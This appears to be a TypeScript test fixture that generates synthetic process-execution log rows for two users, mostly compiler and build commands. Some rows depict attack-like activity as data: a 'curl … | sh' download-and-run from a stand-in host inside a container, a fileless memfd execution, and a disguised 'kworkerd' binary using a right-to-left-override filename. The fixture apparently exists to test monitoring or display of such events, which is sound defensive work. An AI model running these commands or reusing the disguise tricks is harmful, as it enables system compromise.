import { execLine, exitLine, lostLine, START_MS } from "./lines.ts";

/** The lines of a few minutes of two users: every kind of row is among them. */
export function story(): string {
  const at = (seconds: number): number => START_MS + seconds * 1_000;
  const lines = [
    execLine({ id: "920611.1.1", argv: ["bash", "-l"], atMs: at(0) }),
    execLine({ id: "921002.1.1", argv: ["make", "-j8"], parent: "920611.1.1", atMs: at(20) }),
  ];
  for (let index = 0; index < 400; index++) {
    const id = `${931100 + index}.1.1`;
    const atMs = at(20 + index * 0.2);
    lines.push(
      execLine({ id, argv: ["cc", "-Wall", "-c", `net/socket${index}.c`], parent: "921002.1.1", atMs }),
    );
    lines.push(exitLine(id, atMs + 212, 150 + (index % 90), { exit_code: index % 130 === 7 ? 1 : 0 }));
  }
  lines.push(
    lostLine(37, at(67.2)),
    execLine({
      id: "922671.1.1",
      argv: ["ld", "-o", "build/app", "@objects.txt"],
      parent: "921002.1.1",
      atMs: at(70),
    }),
    exitLine("922671.1.1", at(71.2), 1_200, { exit_code: 0 }),
    execLine({ id: "921360.1.1", argv: ["uname", "-a"], parent: "920611.1.1", atMs: at(70.9) }),
    exitLine("921360.1.1", at(70.91), 0.9, { exit_code: 0 }),
    execLine({
      id: "921370.1.1",
      argv: ["docker", "run", "--rm", "alpine", "sh", "-c", "curl … | sh"],
      parent: "920611.1.1",
      atMs: at(71),
    }),
    execLine({
      id: "921372.1.1",
      argv: ["containerd-shim-runc-v2", "-id", "3f2a91c0"],
      parent: "920611.1.1",
      atMs: at(71.2),
    }),
    execLine({
      id: "921375.1.1",
      argv: ["sh", "-c", "curl -fsSL https://get.example.test/i.sh | sh"],
      parent: "921372.1.1",
      atMs: at(71.4),
      extra: { nested: true },
    }),
    execLine({
      id: "921377.1.1",
      argv: ["curl", "-fsSL", "https://get.example.test/i.sh"],
      parent: "921375.1.1",
      atMs: at(71.5),
      extra: { nested: true },
    }),
    exitLine("921377.1.1", at(71.9), 381, { exit_code: 0 }),
    execLine({
      id: "921391.1.1",
      argv: ["/proc/self/fd/7", "--quiet"],
      parent: "921375.1.1",
      atMs: at(72.1),
      extra: { nested: true, image: "memfd" },
    }),
    execLine({
      id: "921395.1.1",
      argv: ["./kworkerd", "\u202egpj.exe"],
      parent: "921375.1.1",
      atMs: at(72.2),
      extra: { image: "deleted" },
    }),
    exitLine("921395.1.1", at(72.3), 12, { signal: 9, signal_name: "SIGKILL" }),
    execLine({
      id: "921402.1.1",
      argv: ["sudo", "id"],
      parent: "920611.1.1",
      atMs: at(74.5),
      extra: { gained: ["setuid"] },
    }),
    exitLine("921402.1.1", at(74.6), 31, { exit_code: 0 }),
    execLine({ id: "921402.1.2", argv: ["id"], parent: "920611.1.1", atMs: at(74.55) }),
    execLine({
      id: "921410.1.1",
      argv: ["python3", "manage.py", "migrate", "--database", "prod db"],
      parent: "920611.1.1",
      atMs: at(75),
    }),
    execLine({
      id: "88210.1.1",
      argv: ["node", "/usr/lib/node_modules/npm/bin/npm-cli.js", "test"],
      atMs: at(76),
      username: "zac",
      workspace: "code",
    }),
    execLine({
      id: "88224.1.1",
      argv: ["sh", "-c", "vitest run"],
      parent: "88210.1.1",
      atMs: at(77),
      username: "zac",
      workspace: "code",
      extra: { interpreter: "/bin/sh" },
    }),
    execLine({
      id: "88301.1.1",
      argv: ["git", "rev-parse", "HEAD"],
      parent: "88224.1.1",
      atMs: at(78),
      username: "zac",
      workspace: "code",
    }),
    exitLine("88301.1.1", at(78.1), 4, { exit_code: 128 }),
  );
  return lines.join("");
}
